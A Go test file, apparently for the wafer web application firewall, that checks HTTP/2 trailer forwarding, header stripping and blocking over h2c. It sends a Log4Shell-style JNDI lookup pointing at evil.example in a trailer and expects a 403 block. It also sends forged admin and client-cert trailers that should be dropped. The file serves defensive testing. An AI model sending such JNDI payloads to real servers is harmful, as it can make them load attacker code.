package grpc

import (
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/wafer-waf/wafer/test/tier"
)

// Fields behind bodies pass both ways where both sides speak HTTP/2, whatever the body is, once they are inspected.
func TestTrailers(t *testing.T) {
	heard := make(chan string, 1)
	back := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err == nil {
			maps.DeleteFunc(r.Trailer, func(_ string, values []string) bool { return len(values) == 0 }) // announced, and not there
			heard <- fmt.Sprintf("%d bytes, %v", len(body), r.Trailer)
		}
		n := 1
		if r.URL.Path == "/long" {
			n = 10_000
		}
		w.Header().Set("Content-Type", "text/plain")
		_, _ = io.WriteString(w, strings.Repeat("hello ", n))
		w.Header().Set(http.TrailerPrefix+"X-Sum", r.Header.Get("X-Want"))
		w.Header().Set(http.TrailerPrefix+"X-Internal", "of no concern to clients")
	}))
	back.Config.Protocols = new(http.Protocols)
	back.Config.Protocols.SetUnencryptedHTTP2(true)
	back.Start()
	defer back.Close()
	const edits = "request_headers: { remove: [X-Admin], set: [{ name: X-Role, value: guest }] }, response_headers: { remove: [X-Internal] }"
	w := tier.Start(t, tier.RouteFile(t, fmt.Sprintf(`
routes:
  - { id: block, hosts: [block.test], policy: block, upstreams: [{ id: b }], %[2]s }
  - { id: unread, hosts: [unread.test], policy: "off", upstreams: [{ id: b }], %[2]s }
upstreams: [{ id: b, protocol: h2c, endpoints: ["%[1]s"] }]
policies:
  - { id: block, request_body: { limit: 64KiB, oversize: inspect_prefix }, response_body: { inspect: true } }
  - { id: "off", mode: "off" }
`, back.URL, edits)))
	transport := &http.Transport{Protocols: new(http.Protocols)}
	transport.Protocols.SetUnencryptedHTTP2(true)
	defer transport.CloseIdleConnections()
	client := &http.Client{Transport: transport}
	ask := func(host, path string, n int, note, want string) (*http.Response, string, error) {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "http://"+w.Addr+path, io.MultiReader(strings.NewReader(strings.Repeat("a", n))))
		if err != nil {
			t.Fatal(err)
		}
		r.Host = host
		r.Header.Set("Content-Type", "text/plain")
		r.Header.Set("X-Want", want)
		r.Trailer = http.Header{
			"X-Note":  {note},
			"X-Admin": {"yes"}, "X-Role": {"root"}, "Client-Cert": {":bm9uZQ==:"}, "Client-Cert-Chain": {":bm9uZQ==:"}, "X-Request-Id": {"forged"}, // which go no further
		}
		resp, err := client.Do(r)
		if err != nil {
			return nil, "", err
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		return resp, string(body), err
	}
	const jndi = "${jndi:ldap://evil.example/a}"
	for _, host := range []string{"block.test", "unread.test"} {
		for _, path := range []string{"/short", "/long"} {
			for _, n := range []int{0, 10, 200_000} {
				resp, body, err := ask(host, path, n, "all well", "42")
				if err != nil {
					t.Errorf("%s%s, %d bytes: %v", host, path, n, err)
					continue
				}
				if want := fmt.Sprintf("%d bytes, map[X-Note:[all well]]", n); resp.StatusCode != 200 || resp.Trailer.Get("X-Sum") != "42" || resp.Trailer.Get("X-Internal") != "" || len(body) < 6 {
					t.Errorf("%s%s, %d bytes: %d %v, %d bytes", host, path, n, resp.StatusCode, resp.Trailer, len(body))
				} else if got := tier.Receive(t, "the request", heard); got != want {
					t.Errorf("%s%s: the application heard %s, want %s", host, path, got, want)
				}
			}
		}
	}
	for _, n := range []int{0, 10, 200_000} {
		resp, _, err := ask("block.test", "/short", n, jndi, "42")
		if err != nil || resp.StatusCode != http.StatusForbidden {
			t.Errorf("%d bytes: %v %v", n, resp, err)
			continue
		}
		if e := w.Security(resp.Header.Get("X-Request-Id")); e["verdict"] != "block" {
			t.Errorf("%v", e)
		}
	}
	select {
	case got := <-heard:
		t.Errorf("the application heard %s", got)
	default:
	}
	if resp, _, err := ask("block.test", "/short", 10, "all well", leak); err == nil && resp.StatusCode == 200 {
		t.Errorf("a leak in trailers went through: %v", resp.Trailer)
	}
}
